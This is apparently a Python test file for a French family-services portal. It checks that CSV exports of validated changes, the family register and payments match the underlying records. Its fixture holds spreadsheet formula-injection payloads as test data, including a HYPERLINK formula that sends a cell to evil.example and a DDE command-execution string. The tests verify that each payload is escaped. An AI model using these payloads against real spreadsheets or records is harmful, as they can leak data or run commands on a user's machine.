"""The exports compared with the data they come from: validated changes (with the value each validation replaced,
in a window of time), the family register, and payments whose totals are those of the families' relevés. Names and
addresses carry formula-injection attempts: no cell of any export may run as a formula."""
from __future__ import annotations

import copy
import csv
import io
import os
import tempfile
from datetime import date, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from random_ledgers import apply_operations, ledger_operations
from storage import clock
from storage.counters import Numbers
from storage.demo import demo_families
from storage.documents import DocumentStore
from storage.families import Families
from storage.ledger import statement
from storage.preregistrations import Preregistrations
from storage.requests import cancel_request, edit_record_directly, submit_request, validate_request
from storage.exports.changes import HEADER as CHANGES_HEADER
from storage.exports.changes import Window, change_rows
from storage.exports.csv_file import FORMULA_STARTS, UTF8_BOM, csv_bytes
from storage.exports.journal import ExportJournal
from storage.exports.payments import HEADER as PAYMENTS_HEADER
from storage.exports.payments import NET_TOTAL, TYPES, PaymentTotals, payment_rows
from storage.exports.register import HEADER as REGISTER_HEADER
from storage.exports.register import register_rows

A, B = "770400070", "770400080"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez ici")'
HOSTILE = {"last_name": HOSTILE_NAME, "first_name": "@Zoé", "address1": "-1+1 rue de l'Église", "city": "+Démoville",
           "address2": "\t=cmd|' /C calc'!A0"}
AGENTS = {"agent": "Agent de la collectivité"}


def names(login: str) -> str:
    return AGENTS.get(login, login)


@pytest.fixture
def town(tmp_path):
    """Two demo families, the second with formula-injection attempts in its names and address."""
    documents = DocumentStore(tmp_path)
    families = Families(documents)
    records = demo_families()
    hostile = copy.deepcopy(records[B])
    hostile["parent1"].update(HOSTILE)
    hostile["children"][0]["first_name"] = "=2+5"
    families.create(A, records[A], "hash")
    families.create(B, hostile, "hash")
    return families, documents


def parse(data: bytes, encoding: str = "utf-8") -> list[list[str]]:
    if encoding == "utf-8":
        assert data.startswith(UTF8_BOM)
        data = data[len(UTF8_BOM):]
    return list(csv.reader(io.StringIO(data.decode("cp1252" if encoding == "windows-1252" else "utf-8"), newline=""),
                           delimiter=";"))


def formula_cells(rows: list[list[str]], numeric_columns: tuple[int, ...] = ()) -> list[str]:
    """Cells a spreadsheet would run (numbers the portal wrote in numeric columns aside)."""
    return [value for row in rows for column, value in enumerate(row)
            if value.lstrip(" \u00a0").startswith(FORMULA_STARTS) and column not in numeric_columns]


def exported(families, window: Window, preregistrations=()) -> list[list[str]]:
    """The changes export as a spreadsheet reads it back."""
    return parse(csv_bytes(change_rows(families, preregistrations, window, names)))


def by_field(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header = rows[0]
    return {row[header.index("Champ")]: dict(zip(header, row)) for row in rows[1:]}


# --- validated changes ------------------------------------------------------------------------------------------

def test_each_validated_field_is_one_line_with_the_value_it_replaced(town):
    families, _ = town
    with clock.pinned("2026-11-02T10:00:00"):
        request_id = submit_request(families, A, "parent1", {"phone_mobile": "07 00 00 00 01", "city": "Melun"})
    with clock.pinned("2026-11-03T11:00:00"):  # the agent changes the city before validating: a conflict
        edit_record_directly(families, A, "parent1", {"city": "Vaux-le-Pénil"}, agent="agent")
    with clock.pinned("2026-11-04T15:30:00"):
        assert validate_request(families, A, request_id, "agent", confirm_conflicts=True).outcome == "validated"
    rows = exported(families, Window("", "2026-12-02T09:00:00"))
    assert rows[0] == list(CHANGES_HEADER)
    direct, city, phone = rows[1:]
    assert direct[:10] == [A, "MARTIN Sophie", "Responsable", "MARTIN Sophie", "", "Responsable", "Modification",
                           "Commune", "Démoville", "Vaux-le-Pénil"]
    assert direct[10:] == ["", "03/11/2026 11:00", "Agent de la collectivité", "Modification par l'agent"]
    assert phone[7:] == ["Téléphone portable", "06 12 34 56 78", "07 00 00 00 01", "02/11/2026 10:00",
                         "04/11/2026 15:30", "Agent de la collectivité", "Demande de la famille"]
    # What the record held when the agent validated, not the value the family saw when asking.
    assert city[7:10] == ["Commune", "Vaux-le-Pénil", "Melun"]
    audit = families.read(A).table("audit").all()[-1]
    assert [(c["before"], c["replaced"]) for c in audit["changes"]] == [("Démoville", "Vaux-le-Pénil"),
                                                                       ("06 12 34 56 78", "06 12 34 56 78")]


def test_children_persons_and_bank_lines_say_who_and_read_as_the_back_office_needs(town):
    families, _ = town
    diet = submit_request(families, A, "child_extra", {"diet": "sans_porc", "image_rights": False}, target_id=1,
                          target_label="Léa MARTIN")
    person = submit_request(families, A, "person", {"last_name": "Durand", "first_name": "Paul", "relationship": "Oncle",
                                                    "phone_mobile": "06 11 11 11 11", "may_pick_up": True,
                                                    "emergency_contact": False, "children": ["1", "2"]},
                            action="add", target_label="Paul DURAND")
    bank = submit_request(families, A, "bank", {"iban": "FR76 3000 4000 0312 3456 7890 143"})
    for request_id in (diet, person, bank):
        assert validate_request(families, A, request_id, "agent").outcome == "validated"
    lines = by_field(exported(families, Window("", "2026-12-31T00:00:00")))
    assert [lines["Régime alimentaire"][k] for k in ("Concerne", "Nom", "N° enfant ou personne", "Rubrique",
                                                     "Ancienne valeur", "Nouvelle valeur")] == \
        ["Enfant", "Léa MARTIN", "1", "Données complémentaires", "Panier repas (PAI)", "Sans porc"]
    assert [lines["Droit à l'image accordé"][k] for k in ("Ancienne valeur", "Nouvelle valeur")] == ["Oui", "Non"]
    added = lines["Enfants concernés"]
    assert [added[k] for k in ("Concerne", "Nom", "N° enfant ou personne", "Opération", "Ancienne valeur",
                               "Nouvelle valeur")] == ["Personne autorisée", "Paul DURAND", "2", "Ajout", "",
                                                       "Léa MARTIN, Tom MARTIN"]
    assert lines["Nom"]["Nouvelle valeur"] == "DURAND"
    assert lines["Peut venir chercher l'enfant"]["Nouvelle valeur"] == "Oui"
    # The full IBAN (the screens mask it): the back-office needs it for direct debits.
    assert [lines["IBAN"][k] for k in ("Concerne", "Ancienne valeur", "Nouvelle valeur")] == \
        ["Famille", "FR76 3000 6000 0112 3456 7890 189", "FR76 3000 4000 0312 3456 7890 143"]


def test_additions_and_removals_say_so_whoever_made_them(town):
    families, _ = town
    edit_record_directly(families, A, "person", {"last_name": "Roux", "first_name": "Léon", "relationship": "Voisin",
                                                 "phone_mobile": "06 22 22 22 22", "may_pick_up": True,
                                                 "emergency_contact": True, "children": ["2"]},
                         agent="agent", action="add", target_label="Léon ROUX")
    removal = submit_request(families, A, "person", {}, target_id=1, action="remove", target_label="Jeanne DUPONT")
    validate_request(families, A, removal, "agent")
    rows = exported(families, Window("", "2027-01-01T00:00:00"))[1:]
    added = [row for row in rows if row[3] == "Léon ROUX"]
    assert {(row[2], row[4], row[6], row[13]) for row in added} == {("Personne autorisée", "2", "Ajout",
                                                                      "Modification par l'agent")}
    assert ("Enfants concernés", "", "Tom MARTIN") in [(row[7], row[8], row[9]) for row in added]
    removed = [row for row in rows if row[3] == "Jeanne DUPONT"]
    assert {(row[4], row[6], row[13]) for row in removed} == {("1", "Suppression", "Demande de la famille")}
    assert ("Nom", "DUPONT", "") in [(row[7], row[8], row[9]) for row in removed]


def test_only_validated_changes_inside_the_window(town):
    families, _ = town
    with clock.pinned("2026-11-01T08:00:00"):
        first = submit_request(families, A, "caf", {"qf": 700})
        pending = submit_request(families, A, "tax", {"income": 30000})
        cancelled = submit_request(families, A, "parent1", {"email": "autre@example.fr"})
    with clock.pinned("2026-11-10T09:00:00"):
        validate_request(families, A, first, "agent")
    with clock.pinned("2026-11-11T09:00:00"):
        cancel_request(families, A, cancelled, "agent", "Non.")
        second = submit_request(families, A, "caf", {"qf": 650})
    with clock.pinned("2026-11-20T09:00:00"):
        validate_request(families, A, second, "agent")
    assert pending

    def qf_changes(since, until):
        return [(row[8], row[9]) for row in exported(families, Window(since, until))[1:]]
    assert qf_changes("", "2026-12-01T00:00:00") == [("780", "700"), ("700", "650")]
    assert qf_changes("2026-11-10T09:00:00", "2026-11-20T09:00:00") == [("780", "700")]  # since in, until out
    assert qf_changes("2026-11-10T09:00:01", "2026-11-20T09:00:01") == [("700", "650")]
    assert qf_changes("2026-11-21T00:00:00", "2026-12-01T00:00:00") == []


def test_validated_preregistrations_are_new_family_lines(town):
    families, documents = town
    preregistrations = Preregistrations(documents)
    people = {"parent1": dict(demo_families()[A]["parent1"], last_name="Nouvel", first_name="Anaïs",
                              address1="+33 chemin des Prés"),
              "parent2": None, "message": "",
              "children": [{"first_name": "Jules", "last_name": "Nouvel", "birth_date": "2019-03-04", "sex": "M",
                            "school": "École Jules Ferry", "class_name": "CE1"}]}
    with clock.pinned("2026-11-05T10:00:00"):
        validated = preregistrations.submit(people)
        preregistrations.submit(dict(people, message="en attente"))
    with clock.pinned("2026-11-06T14:00:00"):
        preregistrations.validate(validated, "agent", families, Numbers(documents, families))
    family_id = preregistrations.get(validated)["family_id"]
    rows = exported(families, Window("2026-11-06T00:00:00", "2026-11-07T00:00:00"), preregistrations.all())
    body = rows[1:]
    assert {row[0] for row in body} == {family_id} and {row[6] for row in body} == {"Nouvelle famille"}
    assert {row[13] for row in body} == {f"Pré-inscription n° {validated}"}
    assert ["Responsable", "NOUVEL Anaïs", "", "Responsable", "Nouvelle famille", "Adresse", "", "'+33 chemin des Prés",
            "05/11/2026 10:00", "06/11/2026 14:00", "Agent de la collectivité"] in [row[2:13] for row in body]
    child = [row for row in body if row[2] == "Enfant"]
    assert [(row[4], row[7], row[9]) for row in child] == [
        ("1", "Prénom", "Jules"), ("1", "Nom", "NOUVEL"), ("1", "Date de naissance", "04/03/2019"),
        ("1", "Sexe", "Garçon"), ("1", "École", "École Jules Ferry"), ("1", "Classe", "CE1")]
    assert formula_cells(rows) == []
    assert change_rows(families, preregistrations.all(), Window("2026-11-07T00:00:00", "2026-12-01T00:00:00"),
                       names)[1:] == []


def test_changes_of_a_hostile_family_cannot_run_in_a_spreadsheet(town):
    families, _ = town
    request_id = submit_request(families, B, "parent1", {"city": "=1+1", "phone_mobile": "+33 6 00 00 00 00"})
    validate_request(families, B, request_id, "agent")
    for encoding in ("utf-8", "windows-1252"):
        rows = parse(csv_bytes(change_rows(families, [], Window("", "2027-01-01T00:00:00"), names), encoding), encoding)
        assert len(rows) == 3 and formula_cells(rows) == []
        city, phone = rows[1:]
        assert city[1:4] == ["'" + HOSTILE_NAME.upper() + " @Zoé", "Responsable", "'" + HOSTILE_NAME.upper() + " @Zoé"]
        assert city[7:10] == ["Commune", "'+Démoville", "'=1+1"]
        assert phone[8:10] == ["07 11 22 33 44", "'+33 6 00 00 00 00"]


def test_the_journal_remembers_where_the_next_export_starts(tmp_path):
    journal = ExportJournal(DocumentStore(tmp_path))
    assert journal.last_until() == "" and journal.recent() == []
    first = journal.record("agent", "", "2026-11-01T09:00:00", 4)
    journal.record("agent2", "2026-11-01T09:00:00", "2026-12-01T10:00:00", 0)
    assert journal.last_until() == "2026-12-01T10:00:00"
    assert [e["by"] for e in journal.recent()] == ["agent2", "agent"]
    assert journal.get(first)["until"] == "2026-11-01T09:00:00" and journal.get(99) is None


# --- the register -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("encoding", ["utf-8", "windows-1252"])
def test_the_register_has_one_line_per_child_with_its_familys_data(town, encoding):
    families, _ = town
    families.create("770400090", {"parent1": {"title": "M.", "last_name": "Sansenfant", "first_name": "Éric"},
                                  "children": []}, "hash")
    rows = parse(csv_bytes(register_rows(families), encoding), encoding)
    assert rows[0] == list(REGISTER_HEADER)
    column = {name: REGISTER_HEADER.index(name) for name in REGISTER_HEADER}
    records = {family_id: families.record(family_id) for family_id in (A, B, "770400090")}
    expected = [(family_id, child["first_name"]) for family_id, record in records.items()
                for child in record["children"]] + [("770400090", "")]
    assert [(row[0], row[column["Enfant prénom"]].removeprefix("'")) for row in rows[1:]] == expected
    for row in rows[1:]:
        record = records[row[0]]
        parent, caf = record["parent1"], record.get("caf") or {}
        child = next((c for c in record["children"] if c["first_name"] == row[column["Enfant prénom"]].lstrip("'")),
                     None)
        assert row[column["Resp1 Civilité"]] == parent["title"]
        assert row[column["Resp1 Prénom"]].removeprefix("'") == parent["first_name"]
        assert row[column["Resp1 Nom"]].removeprefix("'") == parent["last_name"].upper()
        assert row[column["Resp1 Commune"]].removeprefix("'") == parent.get("city", "")
        assert row[column["Resp1 Tél portable"]] == parent.get("phone_mobile", "")
        assert row[column["Resp1 Email"]] == parent.get("email", "")
        assert row[column["QF"]] == str(caf.get("qf", ""))
        assert row[column["QF date"]] == (date.fromisoformat(caf["qf_date"]).strftime("%d/%m/%Y") if caf else "")
        assert row[column["Resp2 Prénom"]] == (record.get("parent2") or {}).get("first_name", "")
        if child:
            assert row[column["Enfant sexe"]] == child["sex"]
            assert row[column["Enfant date naissance"]] == date.fromisoformat(child["birth_date"]).strftime("%d/%m/%Y")
            assert row[column["Enfant école"]] == child["extra"]["school"]
            assert row[column["Enfant classe"]] == child["extra"]["class_name"]
    assert formula_cells(rows) == []
    hostile = next(row for row in rows if row[0] == B)
    assert hostile[column["Resp1 Nom"]] == "'" + HOSTILE_NAME.upper()
    assert hostile[column["Resp1 Complément adresse"]] == "'" + HOSTILE["address2"]
    assert hostile[column["Enfant prénom"]] == "'=2+5"
    assert rows[1][column["Resp1 Commune"]] == "Démoville" and rows[1][column["Enfant école"]] == "École Jules Ferry"


# --- payments -----------------------------------------------------------------------------------------------------

FAST_TEMP = "/dev/shm" if os.access("/dev/shm", os.W_OK) else None


def relevé_sums(families: Families, first: str, last: str) -> tuple[int, int]:
    """(crédits, débits) of the payment lines of every family's relevé de compte dated in the period."""
    credits = debits = 0
    for family_id in families.ids():
        for entry in statement(families.read_ledger(family_id)):
            if entry["kind"] == "payment" and first <= entry["date"] <= last:
                credits += entry["credit_cents"]
                debits += entry["debit_cents"]
    return credits, debits


@settings(max_examples=12)
@given(st.lists(ledger_operations(10), min_size=2, max_size=2), st.integers(0, 400), st.integers(0, 400))
def test_payment_totals_are_those_of_the_families_relevés(operations, start, length):
    with tempfile.TemporaryDirectory(dir=FAST_TEMP, prefix="pf-exports-") as folder:
        families = Families(DocumentStore(Path(folder)))
        for number, family_ops in zip((A, B), operations):
            families.create(number, {"parent1": {"last_name": "=1+2", "first_name": "Zoé"}, "children": []}, "h")
            apply_operations(families, number, family_ops, [10] * len(family_ops), Path(folder))
        first = (clock.today() - timedelta(days=start + 1)).isoformat()
        last = (date.fromisoformat(first) + timedelta(days=length)).isoformat()
        totals = PaymentTotals()
        rows = parse(csv_bytes(payment_rows(families, first, last, lambda f: "=1+2 Zoé", totals)))
        credits, debits = relevé_sums(families, first, last)
        assert totals.net_cents == credits - debits
        assert totals.cents["reversal"] == -debits
        assert sum(totals.cents[k] for k in ("online", "counter", "debit")) == credits
        body = [row for row in rows[1:] if row and row[0] not in ("", "Total")]
        amount = PAYMENTS_HEADER.index("Montant (€)")
        assert sum(int(row[amount].replace(",", "")) for row in body) == totals.net_cents
        net = next(row for row in rows if row[3] == NET_TOTAL)
        assert int(net[amount].replace(",", "")) == totals.net_cents
        assert formula_cells(rows, numeric_columns=(amount,)) == []
        for row in body:
            if row[3] == TYPES["online"]:
                assert row[7:9] == ["1234567890", "XXXXXX"] and row[9].startswith(row[1])
